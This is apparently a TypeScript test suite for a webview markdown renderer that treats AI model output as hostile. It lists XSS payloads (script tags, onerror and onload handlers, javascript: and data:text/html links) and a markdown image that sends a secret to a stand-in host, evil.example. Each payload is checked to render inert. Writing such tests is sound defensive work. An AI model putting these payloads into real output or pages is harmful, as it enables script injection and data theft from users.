/** The answer renderer on hostile model output (jsdom supplies the DOM that the webview has for real). */
import assert from 'node:assert/strict';
import createDOMPurify from 'dompurify';
import { JSDOM } from 'jsdom';
import { createMarkdownRenderer } from '../../src/webview/render/markdown';
import { stableBoundary } from '../../src/webview/render/blocks';

const { window } = new JSDOM('');
const render = createMarkdownRenderer(createDOMPurify(window));
const dom = (html: string) => JSDOM.fragment(html);

/** Everything that could run script, load a resource or navigate, found in rendered HTML. */
export function dangers(html: string): string[] {
  const found: string[] = [];
  const frag = dom(html);
  for (const e of Array.from(frag.querySelectorAll('*'))) {
    const tag = e.tagName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'style', 'link', 'meta', 'form', 'img', 'svg', 'video', 'audio', 'base'].includes(tag)) found.push(`<${tag}>`);
    for (const a of Array.from(e.attributes)) {
      if (/^on/i.test(a.name)) found.push(`${tag}[${a.name}]`);
      if (['href', 'src', 'srcset', 'action', 'formaction', 'xlink:href', 'style'].includes(a.name.toLowerCase())) found.push(`${tag}[${a.name}=${a.value}]`);
      if (/javascript:|vbscript:|data:text\/html/i.test(a.value)) found.push(`${tag}[${a.name}=${a.value}]`);
    }
  }
  return found;
}

const HOSTILE: [string, string][] = [
  ['script tag', '<script>alert(1)</script>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['javascript: link', '[click](javascript:alert(1))'],
  ['JaVaScRiPt: with entities', '[x](JaVaScRiPt&#58;alert(1))'],
  ['data: html link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['remote image (exfiltration)', '![x](https://evil.example/leak.png?q=secret)'],
  ['anchor with onclick', '<a href="https://x" onclick="alert(1)">y</a>'],
  ['svg onload', '<svg onload=alert(1)><circle/></svg>'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['style tag', '<style>body{background:url(https://evil.example/x)}</style>'],
  ['autolink javascript', '<javascript:alert(1)>'],
  ['reference link to javascript', '[a][1]\n\n[1]: javascript:alert(1)'],
  ['fence language injection', '```js" onmouseover="alert(1)\nx\n```'],
  ['html inside a table', '| a |\n|---|\n| <img src=x onerror=alert(1)> |'],
];

describe('answer renderer (model output is hostile)', () => {
  for (const [name, input] of HOSTILE) {
    it(`renders ${name} inert`, () => {
      const html = render(input);
      assert.deepEqual(dangers(html), [], html);
    });
  }

  it('the danger detector finds what it should (positive control for the check itself)', () => {
    assert.deepEqual(dangers('<img src="https://e/x"><a href="javascript:x" onclick="y">z</a><script></script>'), [
      '<img>', 'img[src=https://e/x]', 'a[href=javascript:x]', 'a[href=javascript:x]', 'a[onclick]', '<script>',
    ]);
  });

  it('renders benign markdown to the expected elements (positive control)', () => {
    const frag = dom(render('## Result\n\n- one\n- **two**\n\n[docs](https://example.com/a)\n\n```ts\nconst x: number = 1;\n```\n'));
    assert.equal(frag.querySelector('h2')?.textContent, 'Result');
    assert.equal(frag.querySelectorAll('li').length, 2);
    assert.equal(frag.querySelector('strong')?.textContent, 'two');
    const link = frag.querySelector('a');
    assert.equal(link?.getAttribute('data-href'), 'https://example.com/a', 'safe links keep their target for the host to open');
    assert.equal(link?.hasAttribute('href'), false, 'but cannot navigate the webview');
    const code = frag.querySelector('.code-block code');
    assert.equal(code?.textContent, 'const x: number = 1;\n', 'code text survives highlighting exactly');
    assert.ok(frag.querySelector('.code-block code .hljs-keyword'), 'and is highlighted');
  });

  it('shows raw HTML as text instead of dropping what the model wrote', () => {
    const frag = dom(render('Use <b>bold</b> here'));
    assert.equal(frag.querySelector('b'), null);
    assert.match(frag.textContent ?? '', /Use <b>bold<\/b> here/);
  });

  it('shows an image as its alt text, not a request', () => {
    assert.match(dom(render('![diagram of the flow](https://x.example/d.png)')).textContent ?? '', /\[image: diagram of the flow\]/);
  });
});

describe('streaming block boundary', () => {
  it('cuts after complete paragraphs', () => {
    const t = 'First para.\n\nSecond para still';
    assert.equal(t.slice(0, stableBoundary(t)), 'First para.\n\n');
  });
  it('never cuts inside an open code fence', () => {
    const t = 'Intro.\n\n```ts\nconst a = 1;\n\nconst b = 2;\n';
    assert.equal(t.slice(0, stableBoundary(t)), 'Intro.\n\n');
  });
  it('cuts after a closed fence', () => {
    const t = '```ts\nx\n\ny\n```\n\nAfter';
    assert.equal(t.slice(0, stableBoundary(t)), '```ts\nx\n\ny\n```\n\n');
  });
  it('rendering the stable part and the tail separately gives the same text as rendering the whole', () => {
    const t = '# T\n\nPara *one*.\n\n```js\nlet a = 1;\n```\n\nLast';
    const cut = stableBoundary(t);
    const pieces = dom(render(t.slice(0, cut)) + render(t.slice(cut))).textContent;
    assert.equal(pieces, dom(render(t)).textContent);
  });
});
